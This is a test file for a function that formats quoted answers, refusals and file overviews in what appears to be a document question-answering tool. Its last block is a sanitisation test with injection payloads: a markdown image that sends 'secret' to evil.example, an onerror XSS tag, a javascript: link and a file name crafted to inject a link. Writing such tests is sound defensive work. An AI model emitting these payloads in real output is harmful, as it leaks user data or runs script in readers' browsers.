import { describe, expect, test } from 'vitest'
import type { AnswerPassage } from '#server/engines/ai/ai.ts'
import { passage } from '#server/engines/ai/ai.suite.ts'
import { readQuestion } from '#server/answering/question/read-question.ts'
import { answerText, type AnswerContent, type NumberedQuote } from './answer-text.ts'

const log = passage(1, 'log.md', 'Rain till eleven. Tilda mended the boat.')
const picture = passage(3, 'lighthouse.jpg', '', { kind: 'image', caption: 'A lighthouse.' })
const table = passage(2, 'trip.csv', 'item: Fee; price: £12.00', { kind: 'csv' })

const quote = (of: AnswerPassage, text: string): NumberedQuote => ({ passage: of, text, sentence: text })

const answerOf = (content: Partial<AnswerContent>): string =>
  answerText({
    scope: 'story',
    personaName: null,
    isOverview: false,
    passages: [log, table, picture],
    statements: [],
    certainty: 'sure',
    quotes: [],
    stated: 1,
    lacking: [],
    ...content,
  }).join('')

describe('an answer', () => {
  test('of a text is a sentence in quotation marks with the number of its passage', () => {
    expect(answerOf({ quotes: [quote(log, 'Tilda mended the boat.')] })).toBe('“Tilda mended the boat.” [1]')
  })

  test('of a picture is its name and caption', () => {
    expect(answerOf({ quotes: [quote(picture, 'A lighthouse.')] })).toBe(
      '**lighthouse.jpg**: A lighthouse. [3]',
    )
  })

  test('of a picture without a caption is its name', () => {
    expect(answerOf({ quotes: [quote(picture, 'lighthouse.jpg')] })).toBe('**lighthouse.jpg** [3]')
  })

  test('of a row is the row as it is', () => {
    expect(answerOf({ quotes: [quote(table, 'item: Fee; price: £12.00')] })).toBe(
      'item: Fee; price: £12.00 [2]',
    )
  })

  test('that is sure is the best quote alone', () => {
    const quotes = [quote(log, 'Tilda mended the boat.'), quote(picture, 'A lighthouse.')]
    expect(answerOf({ quotes })).toBe('“Tilda mended the boat.” [1]')
  })

  test('of two sentences of a passage has its number once', () => {
    const quotes = [quote(log, 'Tilda mended the boat.'), quote(log, 'Rain till eleven.')]
    expect(answerOf({ quotes, stated: 2 })).toBe('“Tilda mended the boat.” … “Rain till eleven.” [1]')
  })

  test('that is not sure says so, and lists what is closest', () => {
    const quotes = [quote(log, 'Tilda mended the boat.'), quote(picture, 'A lighthouse.')]
    expect(answerOf({ certainty: 'unsure', quotes })).toBe(
      'Not sure, but this looks closest:\n\n- “Tilda mended the boat.” [1]\n- **lighthouse.jpg**: A lighthouse. [3]\n',
    )
  })

  test('of a table is its statement with the passages of its rows', () => {
    const statements = [{ text: 'The price is **£12.00** in total.', passages: [2, 4], doubt: null }]
    const quotes = [quote(log, 'Tilda mended the boat.')]
    expect(answerOf({ statements, quotes })).toBe('The price is **£12.00** in total. [2] [4]')
  })

  test('of a table that may not be meant says why', () => {
    const doubt = 'Nothing in the table explains “it”.'
    const statements = [{ text: 'The price is **£12.00** in total.', passages: [2], doubt }]
    expect(answerOf({ statements })).toBe(
      `Not sure, but this looks closest: The price is **£12.00** in total. [2] ${doubt}`,
    )
  })
})

describe('a refusal', () => {
  const refusal = (content: Partial<AnswerContent>) => answerOf({ certainty: 'nothing', ...content })

  test('names what is nowhere, and no file', () => {
    expect(refusal({ lacking: ['KX-204'] })).toBe(
      'Nothing in this story says anything about “KX-204”. Try other words, or ask “What is in this story?”',
    )
    expect(refusal({ scope: 'documents', lacking: ['whales', 'puffins', '2019'] })).toBe(
      'Nothing in your documents says anything about “whales”, “puffins” or “2019”. Try other words, or ask “What is in my documents?”',
    )
  })

  test('says so where every word is somewhere', () => {
    expect(refusal({})).toMatch(/^Nothing in this story answers that\./)
  })

  test('is said by the persona', () => {
    expect(refusal({ personaName: 'Maren', lacking: ['whales'] })).toMatch(
      /^Maren has looked: nothing in this story says anything about “whales”\./,
    )
  })

  test('names five words at most', () => {
    expect(refusal({ lacking: 'a b c d e f g'.split(' ') })).toContain('about “a”, “b”, “c”, “d” or “e”.')
  })

  test('is given where nothing can be quoted', () => {
    expect(answerOf({ certainty: 'unsure', quotes: [] })).toMatch(/^Nothing in this story/)
    expect(answerOf({ certainty: 'sure', quotes: [] })).toMatch(/^Nothing in this story/)
  })
})

describe('an overview', () => {
  test('lists each file once, with its caption or the beginning of its text', () => {
    const passages = [
      log,
      passage(4, 'log.md', 'More of it.'),
      picture,
      passage(5, 'bare.jpg', '', { kind: 'image' }),
    ]
    expect(answerOf({ isOverview: true, passages })).toBe(
      'This story holds:\n\n- **log.md**: Rain till eleven. Tilda mended the boat. [1]\n- **lighthouse.jpg**: A lighthouse. [3]\n- **bare.jpg** [5]\n',
    )
  })

  test('lists five files at most, in their order', () => {
    const passages = Array.from({ length: 8 }, (_, at) => passage(at + 1, `${at + 1}.md`, 'Text.'))
    expect(answerOf({ isOverview: true, scope: 'documents', passages }).match(/\*\*\d\.md\*\*/g)).toEqual(
      [1, 2, 3, 4, 5].map((at) => `**${at}.md**`),
    )
  })

  test('cuts long texts at a word', () => {
    const long = passage(1, 'long.md', 'puffin '.repeat(100))
    expect(answerOf({ isOverview: true, passages: [long] })).toMatch(/: (?:puffin )+… \[1\]\n$/)
  })
})

test.each(['story', 'documents'] as const)('an empty place says so, and refers to nothing: %s', (scope) => {
  const text = answerOf({ scope, passages: [] })
  expect(text).toMatch(/to answer from yet/)
  expect(text).not.toMatch(/\[\d+\]/)
})

describe('nothing in foreign text becomes a link, a picture, HTML or a source, C3', () => {
  const hostile =
    'The boat ![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)> [click](javascript:alert(1)) www.evil.example https://evil.example/a mail@evil.example [2] [99] ```\n# Boat\n| a |'
  const named = passage(1, 'boat](https://evil.example) [7].txt', hostile, { caption: hostile })
  const bare = passage(1, named.fileName, '', { kind: 'image', caption: hostile })
  const rows = passage(1, named.fileName, hostile, { kind: 'csv' })
  const contents: [string, Partial<AnswerContent>][] = [
    ['a sentence', { quotes: [quote(named, hostile)] }],
    ['a row', { quotes: [quote(rows, hostile)] }],
    ['a caption', { quotes: [quote(bare, hostile)] }],
    ['a name', { quotes: [quote(bare, bare.fileName)] }],
    ['a list', { certainty: 'unsure', quotes: [quote(named, hostile), quote(bare, hostile)] }],
    [
      'an overview',
      { isOverview: true, passages: [named, passage(1, 'boat.jpg', '', { caption: hostile })] },
    ],
    ['a refusal', { certainty: 'nothing', personaName: hostile, lacking: [hostile] }],
    ['a doubt', { statements: [{ text: 'The sum is 4.', passages: [1], doubt: hostile }] }],
  ]
  test.each(contents)('%s', (_, content) => {
    const text = answerOf(content)
    const numbers = [...text.matchAll(/(?<!\\)\[(\d+)\]/g)].map((match) => match[1])
    expect(numbers.filter((number) => number !== '1')).toEqual([])
    expect(text).not.toMatch(/(?<!\\)!\[|(?<!\\)\]\(|(?<!\\)<[a-z]/i)
    expect(text).not.toMatch(/https?:\/\/|www\.|\w@\w/)
    expect(text).not.toMatch(/^(?:#|\||`{3})/m)
  })
})

test('the question that a refusal proposes asks for an overview', () => {
  // Of both places; the answer to it lists files.
  const proposed = (['story', 'documents'] as const).map(
    (scope) => /“([^”]*\?)”$/.exec(answerOf({ scope, certainty: 'nothing' }))?.[1] ?? '',
  )
  expect(proposed.map((question) => [question, readQuestion(question).isOverview])).toEqual(
    proposed.map((question) => [question, true]),
  )
})
